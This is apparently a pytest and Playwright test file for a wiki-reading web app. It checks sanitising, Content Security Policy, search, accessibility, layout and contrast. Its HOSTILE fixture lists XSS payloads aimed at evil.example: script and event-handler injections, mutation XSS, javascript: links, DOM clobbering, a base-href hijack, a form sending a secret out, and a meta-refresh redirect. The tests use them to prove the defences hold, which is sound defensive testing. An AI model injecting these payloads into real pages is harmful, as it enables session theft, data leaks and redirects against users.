"""The room in a real browser: hostile articles do nothing, search works without scripts, suggestions with them.

Needs Debian's `chromium` (or any on the PATH) and the package `playwright`; skipped with its reason otherwise.
"""

from __future__ import annotations

import threading
from contextlib import ExitStack

import pytest

from galactica.web import create_app
from galactica.web.words import CATALOGUES, INTERFACES
from tests.browser import launched, served_app
from tests.web.shelf import ARTICLES, WIKI, FakeEdition, FakeLibrary, address, article

HOSTILE = """
<p id="gx-main">before</p>
<script>alert("script")</script><script src="https://evil.example/x.js"></script>
<img src="x" onerror="alert('onerror')"><img src="https://evil.example/pixel.png">
<svg onload="alert('svg')"><script>alert("svg script")</script></svg>
<math><mtext></table><mglyph><style><img src=x onerror="alert('mutation')"></style></mglyph></mtext></math>
<a id="link" href="javascript:alert('link')">click me</a> <a href="data:text/html,<script>alert(1)</script>">data</a>
<style>body{display:none} @import "https://evil.example/x.css";</style><link rel="stylesheet" href="https://evil.example/y.css">
<p style="background:url(https://evil.example/bg.png)">styled</p>
<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<form id="out" action="https://evil.example/take"><input name="q" value="secret"><button id="send">send</button></form>
<input name="querySelectorAll"><form name="body"><input name="append"></form><a id="createElement"></a>
<base href="https://evil.example/"><video src="https://evil.example/v.mp4" autoplay></video>
<details open ontoggle="alert('toggle')"><summary>s</summary>d</details><body onload="alert('body')">
<p class="gx-top gx-search gx-suggestions" id="gx-list-1">posing</p><p id="after">after</p>
"""
ASKED = (
    "/ask?q=Where+is+ice",
    "/ask?q=perhaps+ice",
    "/ask?q=disputed+ice",
    "/ask?q=Where+is+a+zebra",
    "/ask?q=" + "x" * 1900,
)
REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/go">'


class Unwashed(FakeLibrary):
    """A library whose sanitiser fails: the policy of the page is the last wall."""

    def sanitise(self, body: str) -> str:
        return body


@pytest.fixture(scope="module")
def chromium():
    with launched() as browser:
        yield browser


@pytest.fixture
def rooms():
    with ExitStack() as opened:
        yield lambda library: opened.enter_context(served_app(create_app(library)))


class Watch:
    """A tab, and everything it did that an article must not cause."""

    def __init__(self, browser, base: str, **options) -> None:
        self.context = browser.new_context(**options)
        self.page = self.context.new_page()
        self.page.set_default_timeout(10_000)
        self.dialogs, self.outside, self.console, self.errors = [], [], [], []
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.page.on("console", lambda message: self.console.append(message.text))
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))

        def gate(route):
            if route.request.url.startswith(base):
                route.continue_()
            else:
                self.outside.append(route.request.url)
                route.abort()

        self.context.route("**/*", gate)


@pytest.fixture
def watch(chromium):
    tabs = []

    def start(base, **options):
        tabs.append(Watch(chromium, base, **options))
        return tabs[-1]

    yield start
    for tab in tabs:
        tab.context.close()


def hostile(body: str, kind: type[FakeLibrary]) -> FakeLibrary:
    return kind((FakeEdition([article("evil", "Evil", body), *ARTICLES[1:3]]),))


def test_a_hostile_article_does_nothing(rooms, watch):
    library = hostile(HOSTILE + REFRESH, FakeLibrary)
    base = rooms(library)
    tab = watch(base)
    tab.page.goto(base + address(library, 0), wait_until="load")
    tab.page.wait_for_timeout(300)
    assert tab.page.locator(".gx-body").get_by_text("after").is_visible()
    assert tab.page.evaluate("document.querySelector('#gx-main').tagName") == "MAIN"
    assert tab.page.evaluate("document.querySelectorAll('.gx-search').length") == 1
    links = tab.page.locator(".gx-body a").evaluate_all("all => all.map(a => a.protocol)")
    assert not {"javascript:", "data:"} & set(links)
    assert (tab.dialogs, tab.outside, tab.errors) == ([], [], [])
    assert tab.page.url == base + address(library, 0)


def test_even_unsanitised_the_policy_holds(rooms, watch):
    library = hostile(HOSTILE, Unwashed)
    base = rooms(library)
    tab = watch(base)
    tab.page.goto(base + address(library, 0), wait_until="load")
    tab.page.evaluate("document.querySelector('#link').click()")
    tab.page.evaluate("document.querySelector('#send').click()")
    tab.page.wait_for_timeout(300)
    assert (tab.dialogs, tab.outside) == ([], [])
    assert tab.page.url == base + address(library, 0)
    assert any("Content Security Policy" in text for text in tab.console)


def test_the_rooms_own_pages_never_break_their_policy(rooms, watch):
    library = FakeLibrary()
    base = rooms(library)
    short = library.editions[0].root[:12]
    tab = watch(base)
    lists = (f"/titles/{short}", f"/categories/{short}", f"/about/{short}", f"/category/{short}/Sky")
    for place in ("/", "/search?q=ice", address(library, 0), address(library, 4), *ASKED, *lists, "/nowhere"):
        tab.page.goto(base + place, wait_until="load")
    console = [text for text in tab.console if "404" not in text]
    assert (tab.dialogs, tab.outside, tab.errors, console) == ([], [], [], [])


def test_a_picture_that_is_a_script_stays_a_picture(rooms, watch):
    library = FakeLibrary()
    base = rooms(library)
    tab = watch(base)
    tab.page.goto(base + address(library, 0), wait_until="load")
    tab.page.locator("figure img").scroll_into_view_if_needed()
    tab.page.wait_for_function("document.querySelector('figure img').complete")
    tab.page.goto(f"{base}/m/{library.editions[0].root[:12]}/{WIKI.key}/I/halley.svg", wait_until="load")
    tab.page.wait_for_timeout(200)
    assert (tab.dialogs, tab.outside) == ([], [])


def test_reading_and_searching_work_without_scripts(rooms, watch):
    base = rooms(FakeLibrary())
    tab = watch(base, java_script_enabled=False)
    tab.page.goto(base)
    tab.page.get_by_role("searchbox").fill("ice")
    tab.page.keyboard.press("Enter")
    tab.page.get_by_role("link", name="Comet", exact=True).click()
    assert tab.page.locator("h1").inner_text() == "Comet"
    tab.page.get_by_role("link", name="the belt").click()
    assert tab.page.locator("h1").inner_text() == "Kuiper belt"
    tab.page.get_by_role("link", name="dark").click()
    assert tab.page.locator("h1").inner_text() == "Kuiper belt"
    assert tab.page.locator("html").get_attribute("data-gx-look") == "dark"


def test_typing_brings_suggestions_and_arrows_choose(rooms, watch):
    base = rooms(FakeLibrary())
    tab = watch(base)
    tab.page.goto(base)
    box = tab.page.locator(".gx-search input")
    box.press_sequentially("kui", delay=20)
    option = tab.page.get_by_role("option")
    option.wait_for()
    assert option.inner_text() == "Kuiper belt"
    box.press("Escape")
    assert not option.is_visible()
    box.press_sequentially("p", delay=20)
    option.wait_for()
    box.press("ArrowDown")
    assert box.get_attribute("aria-activedescendant") == option.get_attribute("id")
    box.press("Enter")
    tab.page.wait_for_url("**/A/Kuiper%20belt")
    tab.page.keyboard.press("/")
    assert tab.page.evaluate("document.activeElement.name") == "q"
    assert (tab.errors, tab.outside) == ([], [])


def test_suggestions_show_titles_as_text(rooms, watch):
    base = rooms(FakeLibrary())
    tab = watch(base)
    tab.page.goto(base)
    tab.page.locator(".gx-search input").press_sequentially("<scr", delay=20)
    option = tab.page.get_by_role("option")
    option.wait_for()
    assert option.inner_text() == "<script>alert(1)</script>"
    assert tab.dialogs == []


def test_suggestions_that_would_look_the_same_say_what_tells_them_apart(rooms, watch):
    library = FakeLibrary(
        editions=(
            FakeEdition(
                (
                    article("de", "Germany", "<p>A country.</p>"),
                    article("zh/de", "德国", "<p>国家。</p>", language="zh-Hans", aliases=("Germany",)),
                    article("ore/a", "Germanite", "<p>An ore.</p>"),
                    article("ore/b", "Germanite", "<p>Un minerai.</p>", language="fr"),
                )
            ),
        )
    )
    tab = watch(base := rooms(library))
    tab.page.goto(base)
    tab.page.locator(".gx-search input").press_sequentially("german", delay=20)
    tab.page.get_by_role("option").first.wait_for()
    lines = [" ".join(text.split()) for text in tab.page.get_by_role("option").all_inner_texts()]
    assert sorted(lines) == sorted(
        [
            "Germany",
            "Germany → 德国",
            "Germanite English · A wiki of tests",
            "Germanite français · A wiki of tests",
        ]
    )


WIDTHS = (1440, 1024, 768, 390, 320)


def test_no_page_is_wider_than_its_window(rooms, watch):
    wide = "<table><tr>" + "<td>a wide cell of a table</td>" * 40 + "</tr></table><pre>" + "x" * 400 + "</pre>"
    long = article("long", "Donaudampfschifffahrtsgesellschaft" * 4, f"<h2>a</h2><h2>b</h2><h2>c</h2>{wide}")
    library = FakeLibrary((FakeEdition([long, *ARTICLES[:3]]),))
    base = rooms(library)
    tab = watch(base, viewport={"width": WIDTHS[0], "height": 800})
    short = library.editions[0].root[:12]
    for place in ("/", "/search?q=ice", address(library, 0), f"/titles/{short}", f"/about/{short}", *ASKED):
        tab.page.goto(base + place, wait_until="load")
        tab.page.locator("details").evaluate_all("all => all.forEach(one => { one.open = true })")
        for width in WIDTHS:
            tab.page.set_viewport_size({"width": width, "height": 800})
            assert tab.page.evaluate("window.innerWidth") == width
            assert tab.page.evaluate("document.documentElement.scrollWidth") <= width, (place, width)


FITS = """all => all.map(one => one.scrollWidth <= one.clientWidth && one.clientHeight < 60)"""


def test_the_words_of_every_language_fit_a_telephone_and_stand_on_the_side_of_their_script(rooms, watch):
    library = FakeLibrary()
    base = rooms(library)
    short = library.editions[0].root[:12]
    tab = watch(base, viewport={"width": 320, "height": 800})
    for language in INTERFACES:
        tab.page.context.add_cookies([{"name": "gx_words", "value": language, "url": base}])
        for place in ("/", "/search?q=ice", f"/about/{short}", f"/report/{short}", ASKED[0], "/nowhere"):
            tab.page.goto(base + place, wait_until="load")
            assert tab.page.evaluate("document.documentElement.lang") == language
            assert tab.page.evaluate("document.documentElement.scrollWidth") <= 320, (place, language)
            assert all(tab.page.locator(".gx-search button").evaluate_all(FITS)), (place, language)
        glass, ask = (tab.page.locator(f".gx-search .{name}").bounding_box()["x"] for name in ("gx-go", "gx-ask"))
        assert (ask < glass) == (CATALOGUES[language].direction == "rtl"), language


def luminance(color: str) -> float:
    parts = [int(part) / 255 for part in color[4:-1].split(",")]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


GROUND = """one => {
  for (; one; one = one.parentElement) {
    const color = getComputedStyle(one).backgroundColor;
    if (color !== "rgba(0, 0, 0, 0)") return color;
  }
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out_from_its_ground(rooms, watch, scheme):
    """Contrast of 4.5 to 1 at least. Source: WCAG 2.2, 1.4.3."""
    library = FakeLibrary()
    base = rooms(library)
    tab = watch(base, color_scheme=scheme)
    tab.page.goto(base + address(library, 0), wait_until="load")
    ground = luminance(tab.page.evaluate("getComputedStyle(document.body).backgroundColor"))
    assert (ground < 0.2) == (scheme == "dark")
    for selector in ".gx-body p|.gx-body a|.gx-missing|.gx-under|.gx-contents a|.gx-aside h2|.gx-foot p".split("|"):
        text = luminance(tab.page.locator(selector).first.evaluate("one => getComputedStyle(one).color"))
        ratio = (max(ground, text) + 0.05) / (min(ground, text) + 0.05)
        assert ratio >= 4.5, (selector, ratio)


def test_the_keyboard_reaches_the_text_first(rooms, watch):
    base = rooms(FakeLibrary())
    tab = watch(base)
    tab.page.goto(base)
    tab.page.keyboard.press("Tab")
    assert tab.page.evaluate("document.activeElement.getAttribute('href')") == "#gx-main"
    for landmark in ("banner", "main", "contentinfo", "search"):
        assert tab.page.get_by_role(landmark).count() >= 1, landmark


def test_print_leaves_the_text_and_its_source(rooms, watch):
    library = FakeLibrary()
    base = rooms(library)
    tab = watch(base)
    tab.page.goto(base + address(library, 0), wait_until="load")
    tab.page.emulate_media(media="print")
    assert not tab.page.get_by_role("banner").is_visible()
    assert tab.page.locator(".gx-body").is_visible()
    assert tab.page.locator(".gx-source").is_visible()


def test_a_question_is_answered_without_scripts_and_leads_to_the_very_words(rooms, watch):
    base = rooms(FakeLibrary())
    tab = watch(base, java_script_enabled=False)
    tab.page.goto(base)
    tab.page.get_by_role("searchbox").fill("What is beyond Neptune?")
    tab.page.get_by_role("button", name="Ask").click()
    tab.page.locator(".gx-answer").wait_for()  # the page is sent as it grows
    assert tab.page.get_by_role("heading", level=1).inner_text() == "What is beyond Neptune?"
    assert tab.page.get_by_role("heading", name="The library answers").is_visible()
    assert tab.page.locator(".gx-answer").inner_text() == "Neptune"
    tab.page.locator(".gx-live").wait_for(state="hidden")
    work = tab.page.get_by_text("Show the work")
    work.focus()
    tab.page.keyboard.press("Enter")
    assert tab.page.get_by_text("Followed links.").last.is_visible()
    tab.page.locator("figcaption").get_by_role("link", name="Kuiper belt").click()
    assert tab.page.locator("mark.gx-answers").inner_text() == "Neptune"


def test_enter_asks_again_where_one_has_asked(rooms, watch):
    base = rooms(FakeLibrary())
    tab = watch(base)
    tab.page.goto(base + "/ask?q=Where+is+ice")
    tab.page.locator(".gx-search input").fill("Where is a zebra?")
    tab.page.keyboard.press("Enter")
    tab.page.wait_for_url("**/ask?q=Where*zebra*")
    assert tab.page.get_by_role("heading", name="No likely answer").is_visible()


def test_what_is_being_done_is_shown_before_the_answer_comes(rooms, watch):
    library = FakeLibrary()
    library.gate = threading.Event()
    base = rooms(library)
    tab = watch(base)
    tab.page.goto(base + "/ask?q=Where+is+ice", wait_until="commit")
    tab.page.get_by_text("Looked for").first.wait_for()
    assert tab.page.locator(".gx-verdict").count() == 0
    library.gate.set()
    tab.page.locator(".gx-verdict").wait_for()
    assert not tab.page.locator(".gx-live").is_visible()


@pytest.mark.parametrize("width", [390, 1280])
def test_sides_stand_beside_each_other_where_there_is_room(rooms, watch, width):
    base = rooms(FakeLibrary())
    tab = watch(base, viewport={"width": width, "height": 800})
    tab.page.goto(base + "/ask?q=disputed+ice", wait_until="load")
    first, second = (tab.page.locator(".gx-side").nth(number).bounding_box() for number in (0, 1))
    assert (first["y"] == second["y"]) == (width > 1000)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("place", ASKED[:3])
def test_the_words_of_an_answer_stand_out_from_their_ground(rooms, watch, scheme, place):
    base = rooms(FakeLibrary())
    tab = watch(base, color_scheme=scheme)
    tab.page.goto(base + place, wait_until="load")
    tab.page.locator("details").evaluate_all("all => all.forEach(one => { one.open = true })")
    for selector in ".gx-label|figcaption|.gx-around|.gx-said|mark|.gx-work small|.gx-read-by|.gx-asked h1".split("|"):
        one = tab.page.locator(selector).first
        text = luminance(one.evaluate("one => getComputedStyle(one).color"))
        ground = luminance(one.evaluate(GROUND))
        ratio = (max(ground, text) + 0.05) / (min(ground, text) + 0.05)
        assert ratio >= 4.5, (selector, ratio)


def test_an_answer_prints_with_its_proof(rooms, watch):
    base = rooms(FakeLibrary())
    tab = watch(base)
    tab.page.goto(base + "/ask?q=Where+is+ice", wait_until="load")
    tab.page.emulate_media(media="print")
    assert tab.page.locator(".gx-proof").first.is_visible()
    for hidden in (".gx-top", ".gx-again", ".gx-foot"):
        assert not tab.page.locator(hidden).is_visible()
